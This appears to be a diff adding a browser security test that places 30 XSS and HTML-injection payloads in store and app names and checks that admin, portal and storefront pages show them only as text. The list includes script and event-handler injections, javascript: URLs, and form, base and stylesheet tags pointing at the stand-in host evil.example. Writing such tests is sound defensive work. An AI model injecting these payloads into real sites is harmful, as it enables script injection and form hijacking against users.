@@ -1,0 +1,106 @@
+import type { Page } from 'playwright-core'
+import { expect, it } from 'vitest'
+
+import { makeStage } from './support/browser-stage.ts'
+import { describeInChromium } from './support/chromium.ts'
+
+/** Each would set `window.canary` if any page took it for markup, for an address or for script. */
+const payloads = [
+  '<script>canary=1</script>',
+  '</title><script>canary=1</script>',
+  '</h1><script>canary=1</script>',
+  '<img src=x onerror=canary=1>',
+  '"><img src=x onerror=canary=1>',
+  "'><img src=x onerror=canary=1>",
+  '<svg onload=canary=1>',
+  '<svg><script>canary=1</script></svg>',
+  '<body onload=canary=1>',
+  '<iframe srcdoc="<script>parent.canary=1</script>">',
+  '<iframe src="javascript:parent.canary=1">',
+  '<a href="javascript:canary=1" autofocus onfocus=canary=1>x</a>',
+  '<input autofocus onfocus=canary=1>',
+  '" autofocus onfocus="canary=1',
+  "' autofocus onfocus='canary=1",
+  '<details open ontoggle=canary=1>',
+  '<video><source onerror=canary=1></video>',
+  '<math><mtext><script>canary=1</script></mtext></math>',
+  '<object data="javascript:canary=1">',
+  '<embed src="javascript:canary=1">',
+  '<meta http-equiv=refresh content="0;url=javascript:canary=1">',
+  '<base href="https://evil.example/">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<form action="https://evil.example/"><button>Approve</button></form>',
+  '</form><form action="https://evil.example/" method=post>',
+  '<style>body{background:url(https://evil.example/)}</style>',
+  '<template><script>canary=1</script></template>',
+  '<!--><script>canary=1</script>-->',
+  '&lt;script&gt;canary=1&lt;/script&gt;',
+  '${canary=1}{{canary=1}}',
+]
+
+/** What a page did that text cannot do. */
+function watch(page: Page) {
+  const done: string[] = []
+  page.on('request', (request) => {
+    const { hostname } = new URL(request.url())
+    if (hostname !== 'localhost' && hostname !== '127.0.0.1') done.push(`asked ${request.url()}`)
+  })
+  page.on('console', (message) => {
+    // A policy that had to stop something has stopped what should have been text.
+    if (/Content Security Policy/i.test(message.text())) done.push(message.text())
+  })
+  page.on('dialog', (dialog) => {
+    done.push('dialog')
+    void dialog.dismiss()
+  })
+  return done
+}
+
+describeInChromium('payloads in the names of stores and apps', (browser) => {
+  it('T22 none of 30 is more than text on any page of admin, portal and storefront', async () => {
+    expect(new Set(payloads).size).toBe(30)
+    const mixed = `<script>canary=1</script>"'></title><img src=x onerror=canary=1>`
+    const stage = await makeStage({ storeName: mixed, registration: { name: mixed } })
+    for (const [at, payload] of payloads.entries()) {
+      const appKey = `app.acme.payload${at}`
+      await stage.control.register(appKey, {
+        name: payload,
+        requested_scopes: ['orders.read'],
+        redirect_uris: [`${stage.app}/auth/callback`],
+      })
+      await stage.control.addTestStore(appKey, stage.store.code)
+      await stage.control.openStore({ name: payload, seed: 'none' })
+    }
+    const page = await stage.signIn(browser())
+    const done = watch(page)
+    const { admin, portal, storefront } = stage.urls
+    const portalTicket = await stage.control.portalUrl()
+    const pages = [
+      `${admin}/admin/plugins`,
+      `${admin}/admin/orders`,
+      stage.manage,
+      stage.consent,
+      ...payloads.map((_, at) => `${admin}/admin/plugins/install/app.acme.payload${at}`),
+      portalTicket,
+      `${portal}/apps/${stage.key}`,
+      `${storefront}/`,
+      `${storefront}/${stage.store.code}`,
+    ]
+
+    for (const url of pages) {
+      await page.goto(url, { waitUntil: 'domcontentloaded' })
+      const found = {
+        canary: await page.evaluate(`'canary' in window`),
+        foreign: await page.locator('script, img, svg, object, embed, base, style, details, video, math').count(),
+        handlers: await page.locator('[onerror], [onload], [onfocus], [ontoggle], [href^=javascript]').count(),
+      }
+      expect({ url, ...found }).toEqual({ url, canary: false, foreign: 0, handlers: 0 })
+    }
+
+    expect(done).toEqual([])
+    // They were really there, word for word.
+    await page.goto(`${portal}/`)
+    const text = await page.textContent('body')
+    expect(payloads.filter((payload) => !text?.includes(payload))).toEqual([])
+  })
+})
